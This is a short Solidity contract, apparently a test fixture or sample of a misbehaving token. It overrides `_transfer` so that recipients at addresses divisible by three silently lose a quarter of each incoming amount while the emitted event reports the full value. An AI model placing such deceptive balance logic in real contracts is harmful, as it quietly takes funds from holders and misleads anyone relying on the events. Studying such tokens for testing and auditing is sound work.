// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "./Token.sol";

/// Every third holder loses a quarter of what the event said they got.
contract BalancesVanish is Token {
    function _transfer(address from, address to, uint256 value) internal override {
        super._transfer(from, to, value);
        if (uint160(to) % 3 == 0 && to != owner) balanceOf[to] -= value / 4;
    }
}
